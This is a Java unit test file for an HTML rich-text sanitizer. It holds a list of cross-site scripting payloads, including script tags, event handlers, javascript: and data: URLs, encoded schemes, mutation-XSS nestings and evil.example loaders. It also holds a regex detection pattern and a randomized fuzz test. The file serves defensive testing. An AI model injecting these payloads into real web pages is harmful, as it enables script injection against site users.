package org.jiamenkou.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RichTextTest {

    private static final String DANGEROUS =
            "(?is).*(<script|<svg|<math|<style|<iframe|<img|<object|<form|<input|<base|<meta|<link"
                    + "|<[^>]*\\son\\w+\\s*=|<[^>]*\\sstyle\\s*=|<[^>]*(href|src)\\s*=\\s*[\"']?\\s*(javascript|data|vbscript):).*";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<p onclick=\"alert(1)\">x</p>",
                "<p onclick\n=\n'alert(1)'>x</p>",
                "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" jAvAsCrIpT:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<style>@import 'https://evil.example/x.css'</style>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=x.swf></object><embed src=x>",
                "<form action=https://evil.example><input name=p></form>",
                "<base href=https://evil.example/><meta http-equiv=refresh content=0><link rel=stylesheet href=x>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<template><script>alert(1)</script></template>",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<p><a href='https://a.example' onmouseover=alert(1) style=x target=_top>x</a></p>",
            })
    void nothingThatRunsGetsThrough(String given) {
        String html = new RichText(given).html();

        assertThat(html).doesNotMatch(DANGEROUS);
    }

    @Test
    void headingsListsTablesAndLinksStay() {
        String html = new RichText("<h2>时间</h2><p>第一天<br>上午 <strong>9点</strong></p><ul><li>甲</li></ul>"
                        + "<table><tr><th scope=\"row\">乙</th><td colspan=\"2\">丙</td></tr></table>"
                        + "<a href=\"https://edu.example/a?b=1&amp;c=2\">原文</a> <a href=\"/content/list\">全部</a>"
                        + " <a href=\"tel:02800000000\">电话</a>")
                .html();

        assertThat(html)
                .contains("<h2>时间</h2>", "<strong>9点</strong>", "<li>甲</li>", "colspan=\"2\"", "scope=\"row\"")
                .contains("href=\"https://edu.example/a?b", "href=\"/content/list\"", "href=\"tel:02800000000\"")
                .contains("rel=\"noopener nofollow\"");
    }

    @Test
    void whatIsAllowedOnceSaysTheSameWhenItIsShown() {
        long seed = 20260302;
        System.out.println("seed " + seed);
        Random chance = new Random(seed);
        List<String> pieces = List.of(
                "<p>",
                "</p>",
                "<a href=\"javascript:x\">",
                "</a>",
                "<b>",
                "</i>",
                "<script>",
                "</script>",
                "<table>",
                "<td>",
                "&lt;",
                "&amp;lt;",
                "<",
                ">",
                "\"",
                "'",
                "<svg",
                "onload=",
                "<!--",
                "-->",
                "文字",
                "𠮷",
                "<li>",
                "</ul>",
                "&#x3c;",
                "<style>",
                "</style>",
                "<textarea>",
                "</title>",
                "<a href='//evil.example'>");
        for (int round = 0; round < 3_000; round++) {
            StringBuilder given = new StringBuilder();
            for (int i = 0; i < 12; i++) {
                given.append(pieces.get(chance.nextInt(pieces.size())));
            }
            RichText once = new RichText(given.toString());
            assertThat(once.html()).as(given.toString()).doesNotMatch(DANGEROUS);
            RichText shown = new RichText(once.html());
            assertThat(shown.html()).as(given.toString()).doesNotMatch(DANGEROUS);
            assertThat(shown.words().replace(" ", ""))
                    .as(given.toString())
                    .isEqualTo(once.words().replace(" ", ""));
        }
    }

    @Test
    void wordsCarryNoMarkup() {
        assertThat(new RichText("<h2>报名</h2><p>1 &lt; 2 &amp; 3</p><ul><li>甲</li><li>乙</li></ul>").words())
                .isEqualTo("报名 1 < 2 & 3 甲 乙");
        assertThat(new RichText("<p><br></p><script>x</script>").isEmpty()).isTrue();
    }

    @Test
    void aTextHasAnEnd() {
        assertThatThrownBy(() -> new RichText("长".repeat(RichText.LONGEST + 1)))
                .isInstanceOfSatisfying(
                        ContentRefusal.class,
                        refused -> assertThat(refused.code()).isEqualTo("text-too-long"));
    }
}
